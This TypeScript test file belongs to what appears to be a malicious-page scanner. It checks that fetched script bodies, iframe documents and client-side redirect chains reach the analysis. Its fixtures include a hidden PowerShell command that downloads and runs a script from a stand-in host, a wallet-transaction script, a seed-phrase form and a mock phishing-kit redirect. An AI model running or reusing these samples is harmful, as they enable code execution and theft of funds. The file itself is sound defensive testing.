import assert from 'node:assert/strict';
import type { Server } from 'node:http';
import { createLogger } from '@lookout/telemetry';
import { analysisInputOf, type RenderedInput } from '../../src/analysis/analyze.js';
import type { AnalysisInput } from '../../src/analysis/input.js';
import type { ScanResult } from '../../src/analysis/result.js';
import type { BrowserPool } from '../../src/capture/browser-pool.js';
import { scanWithBrowser, type BrowserEngineDeps } from '../../src/capture/browser-engine.js';
import { DEFAULT_CAPTURE_LIMITS } from '../../src/capture/capture.js';
import { startAnalysingBrowser } from './analysing-browser.js';
import { html, startRouteServer, type Route, type RouteServer } from './route-server.js';

/**
 * What the page's scripts and fetches said, and every document of a client-side redirect chain, reach
 * the analysis input (real Chromium, loopback pages, everything through the per-scan egress proxy,
 * whose records carry the bodies).
 */

const typed =
  (type: string, body: string | Buffer): Route =>
  (_req, res) => {
    res.writeHead(200, { 'content-type': type });
    res.end(body);
  };

describe('browser engine: fetched texts and redirect documents for the analysis (real Chromium)', function () {
  this.timeout(90_000);
  let server: Server;
  let base: string;
  let routes: RouteServer['routes'];
  let pool: BrowserPool;
  let deps: BrowserEngineDeps;

  before(async () => {
    ({ server, base, routes } = await startRouteServer());
    ({ pool, deps } = await startAnalysingBrowser(createLogger('fetched-texts-test', 'silent')));
  });

  after(async () => {
    await pool?.close();
    server?.closeAllConnections();
    await new Promise<void>((resolve) => server?.close(() => resolve()));
  });

  /** Scans a page and returns the analysis input the engine built, beside the result. */
  async function scanInput(path: string, limits: BrowserEngineDeps['limits'] = {}): Promise<{ input: AnalysisInput; result: ScanResult; rendered: RenderedInput }> {
    let rendered: RenderedInput | undefined;
    let response: Parameters<BrowserEngineDeps['analyze']>[0] | undefined;
    const verdict = await scanWithBrowser(`${base}${path}`, {}, {
      ...deps,
      limits: { ...deps.limits, ...limits },
      analyze: (r, seen) => {
        response = r;
        rendered = seen;
        return deps.analyze(r, seen);
      },
    }, undefined, 30_000);
    assert.equal(verdict.scanState, 'completed', JSON.stringify(verdict.reason));
    assert.ok(rendered && response);
    return { input: analysisInputOf(response, rendered), result: verdict.result as ScanResult, rendered };
  }

  it('cuts a DOM over its cap at a character boundary: no half character (U+FFFD) at the end', async () => {
    // "é" is two bytes in UTF-8; with an odd cap, a byte cut would end inside one.
    routes.set('/accents', html(`<!doctype html><title>accents</title><p>${'é'.repeat(5_000)}</p>`));
    const { rendered } = await scanInput('/accents', { maxDomBytes: 2_000 });
    const dom = rendered.dom?.toString('utf8') ?? '';
    assert.ok(dom.length > 900 && Buffer.byteLength(dom) <= 2_000, `${Buffer.byteLength(dom)} bytes`);
    assert.ok(!dom.includes('\uFFFD'), `ends with ${JSON.stringify(dom.slice(-8))}`);
  });

  it('hands over the text of external scripts, fetched JSON and HTML, and sub-frame documents — not images or the page itself', async () => {
    routes.set('/static/app.js', typed('application/javascript; charset=utf-8', 'async function go(){ await ethereum.request({ method: "eth_sendTransaction", params: [{ value: "0xffff" }] }); }'));
    routes.set('/api/step', typed('application/json', JSON.stringify({ cmd: 'powershell -w hidden -c "iwr https://x.example/a | iex"' })));
    routes.set('/api/fragment', typed('text/html; charset=utf-8', '<form><input name="seed"></form>'));
    routes.set('/frame', html('<!doctype html><title>frame</title><p>framed sign-in</p>'));
    routes.set('/logo.png', typed('image/png', Buffer.alloc(200, 7)));
    routes.set('/font.woff2', typed('font/woff2', Buffer.alloc(100, 1)));
    routes.set('/texts', html(`<!doctype html><title>texts</title><img src="/logo.png"><script src="/static/app.js"></script>
      <iframe src="/frame"></iframe>
      <script>
        fetch('/api/step').then((r) => r.json());
        const x = new XMLHttpRequest(); x.open('GET', '/api/fragment'); x.send();
        new FontFace('f', 'url(/font.woff2)').load().catch(() => {});
      </script>`));
    const { input, result } = await scanInput('/texts');
    const texts = input.fetchedTexts ?? [];
    const byPath = new Map(texts.map((t) => [new URL(t.url).pathname, t]));
    assert.deepEqual([...byPath.keys()].sort(), ['/api/fragment', '/api/step', '/frame', '/static/app.js'], JSON.stringify(texts.map((t) => t.url)));
    assert.deepEqual(byPath.get('/static/app.js'), { url: `${base}/static/app.js`, resourceType: 'script', mimeType: 'application/javascript', text: 'async function go(){ await ethereum.request({ method: "eth_sendTransaction", params: [{ value: "0xffff" }] }); }', truncated: false });
    assert.equal(byPath.get('/api/step')?.resourceType, 'fetch');
    assert.match(byPath.get('/api/step')?.text ?? '', /powershell -w hidden/);
    assert.equal(byPath.get('/api/fragment')?.resourceType, 'xhr');
    assert.equal(byPath.get('/frame')?.resourceType, 'document');
    assert.equal(input.clientRedirectDocuments, undefined, 'the page never left its document');
    // Bodies go to the analysis only: never into the stored result.
    assert.ok(!JSON.stringify(result).includes('eth_sendTransaction'), 'a body reached the result');
  });

  it('keeps to its caps: at most 40 bodies, each cut to 256 KiB (marked), 1 MiB in all', async () => {
    const big = `/*${'x'.repeat(300 * 1024)}*/`;
    for (let i = 0; i < 50; i += 1) routes.set(`/many/${i}.js`, typed('text/javascript', `window.v${i} = ${i};`));
    for (let i = 0; i < 6; i += 1) routes.set(`/big/${i}.js`, typed('text/javascript', big));
    routes.set('/many', html(`<!doctype html><title>many</title>${Array.from({ length: 50 }, (_, i) => `<script src="/many/${i}.js"></script>`).join('')}`));
    routes.set('/big', html(`<!doctype html><title>big</title>${Array.from({ length: 6 }, (_, i) => `<script src="/big/${i}.js"></script>`).join('')}`));
    const many = (await scanInput('/many')).input.fetchedTexts ?? [];
    assert.equal(many.length, DEFAULT_CAPTURE_LIMITS.maxFetchedTexts);
    const big6 = (await scanInput('/big')).input.fetchedTexts ?? [];
    const total = big6.reduce((sum, t) => sum + Buffer.byteLength(t.text), 0);
    assert.ok(total <= DEFAULT_CAPTURE_LIMITS.maxFetchedTextsTotalBytes, `${total} bytes in all`);
    assert.equal(big6.length, 4, big6.map((t) => `${t.url} ${t.text.length}`).join('\n'));
    for (const text of big6) {
      assert.equal(text.truncated, true);
      assert.ok(Buffer.byteLength(text.text) <= DEFAULT_CAPTURE_LIMITS.maxFetchedTextBytes);
    }
    // Smaller caps are honoured as well.
    const capped = (await scanInput('/many', { maxFetchedTexts: 3 })).input.fetchedTexts ?? [];
    assert.equal(capped.length, 3);
  });

  it('a page that leaves by script keeps its first document (raw) and hands over every document of the chain', async () => {
    routes.set('/hop', (_req, res) => {
      res.writeHead(302, { location: '/first' });
      res.end();
    });
    // An encrypted kit's shape: the first document holds the evidence and leaves at once.
    routes.set('/first', html('<!doctype html><title>first document</title><p>ciphertext U2FsdGVkX1+kit</p><meta http-equiv="refresh" content="0;url=/second">'));
    routes.set('/second', html('<!doctype html><title>second document</title><p>hop two</p><script>location.replace("/third")</script>'));
    routes.set('/third', html('<!doctype html><title>third document</title><script>setTimeout(() => location.replace("/landing"), 200)</script>'));
    routes.set('/landing', html('<!doctype html><title>Landing</title><p>the brand site</p>'));
    // A settle window long enough for a loaded machine: the test is about the documents, not the wait.
    const { input, result } = await scanInput('/hop', { networkIdleMs: 3_000 });
    assert.equal(result.finalUrl, `${base}/landing`);
    assert.equal(result.page?.title, 'Landing');
    assert.equal(result.rawPage?.title, 'first document', 'the raw document was lost');
    assert.match(input.rawBody.toString(), /U2FsdGVkX1\+kit/);
    assert.deepEqual(
      (input.clientRedirectDocuments ?? []).map((doc) => [new URL(doc.url).pathname, doc.status, doc.mimeType, /<title>([^<]*)/.exec(doc.html)?.[1]]),
      [
        ['/second', 200, 'text/html', 'second document'],
        ['/third', 200, 'text/html', 'third document'],
        ['/landing', 200, 'text/html', 'Landing'],
      ],
    );
  });
});
